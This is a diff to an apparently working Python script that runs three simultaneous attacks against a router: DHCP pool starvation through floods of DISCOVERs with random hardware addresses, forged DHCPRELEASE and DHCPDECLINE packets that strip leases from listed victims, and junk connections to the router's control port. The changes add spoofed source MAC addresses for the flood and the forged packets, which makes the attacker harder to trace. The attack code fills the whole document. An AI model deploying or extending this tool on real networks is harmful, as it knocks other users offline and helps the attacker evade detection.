@@ -4,14 +4,16 @@
 SIGTERM.  Three attacks at once, each in its own thread:
 
   discover  DHCPDISCOVERs at PPS a second, each with a fresh random
-            chaddr (06:xx:xx:xx:xx:xx, never a walk-in's), from her own
-            Ethernet address: each would reserve an offer (pool
-            starvation)
-  forge     every second, for each "ADDR MAC" line of VICTIMS (the
-            walk-ins leased so far; the file grows): a DHCPRELEASE of
-            ADDR (chaddr MAC, ciaddr ADDR, unicast to the server from
-            ADDR) and a DHCPDECLINE of it (broadcast, requested address
-            ADDR), both from her own Ethernet address
+            chaddr (06:xx:xx:xx:xx:xx, never a walk-in's), every other
+            one from her own Ethernet address, the others from the
+            chaddr (as if from as many machines): each would reserve an
+            offer (pool starvation)
+  forge     at PPS a second, round after round over the "ADDR MAC" lines
+            of VICTIMS (the walk-ins leased so far; the file grows): a
+            DHCPRELEASE of ADDR (chaddr MAC, ciaddr ADDR, unicast to the
+            server from ADDR) and a DHCPDECLINE of it (broadcast,
+            requested address ADDR), from a random Ethernet address of
+            hers (06:xx:..., never the victim's)
   junk      JUNK connections at a time to the control port, each sending
             512 random bytes and waiting (at most 2 s) for the router to
             close it, then the next
@@ -50,9 +52,11 @@ def discover(sock, mymac, pps):
     rnd = random.Random(10)
     bcast = b"\xff" * 6
     t = time.monotonic()
+    n = 0
     while not stop.is_set():
         chaddr = bytes([6]) + bytes(rnd.randrange(256) for _ in range(5))
-        sock.send(frame(mymac, bcast, "0.0.0.0", "255.255.255.255",
+        n += 1
+        sock.send(frame(mymac if n % 2 else chaddr, bcast, "0.0.0.0", "255.255.255.255",
                         bootp(rnd.randrange(1 << 32), chaddr, DISCOVER,
                               flags=0)))
         count("discovers")
@@ -64,30 +68,40 @@ def discover(sock, mymac, pps):
             t = time.monotonic()
 
 
-def forge(sock, mymac, server_ip, server_mac, victims):
+def forge(sock, server_ip, server_mac, victims, pps):
     sid = bytes([54, 4]) + socket.inet_aton(server_ip)
     bcast = b"\xff" * 6
     rnd = random.Random(11)
+    t = time.monotonic()
     while not stop.is_set():
         try:
             with open(victims) as f:
                 lines = [ln.split() for ln in f if len(ln.split()) == 2]
         except OSError:
             lines = []
+        if not lines:
+            stop.wait(0.5)
+            continue
         for addr, mac in lines:
             if stop.is_set():
                 break
             m = bytes.fromhex(mac.replace(":", ""))
-            sock.send(frame(mymac, server_mac, addr, server_ip,
+            src = bytes([6]) + bytes(rnd.randrange(256) for _ in range(5))
+            sock.send(frame(src, server_mac, addr, server_ip,
                             bootp(rnd.randrange(1 << 32), m, RELEASE,
                                   ciaddr=addr, opts=sid, flags=0)))
             count("releases")
-            sock.send(frame(mymac, bcast, "0.0.0.0", "255.255.255.255",
+            sock.send(frame(src, bcast, "0.0.0.0", "255.255.255.255",
                             bootp(rnd.randrange(1 << 32), m, DECLINE,
                                   opts=bytes([50, 4]) +
                                   socket.inet_aton(addr) + sid, flags=0)))
             count("declines")
-        stop.wait(1.0)
+            t += 2.0 / pps
+            delay = t - time.monotonic()
+            if delay > 0:
+                stop.wait(delay)
+            else:
+                t = time.monotonic()
 
 
 def junk(server_ip, port, seed):
@@ -129,8 +143,8 @@ def main():
                                         args=(sock, mymac, float(pps))))
     if victims != "-":
         threads.append(threading.Thread(target=forge,
-                                        args=(sock, mymac, server_ip,
-                                              server_mac, victims)))
+                                        args=(sock, server_ip, server_mac,
+                                              victims, float(pps) or 100)))
     threads += [threading.Thread(target=junk,
                                  args=(server_ip, int(port), 100 + i))
                 for i in range(int(njunk))]
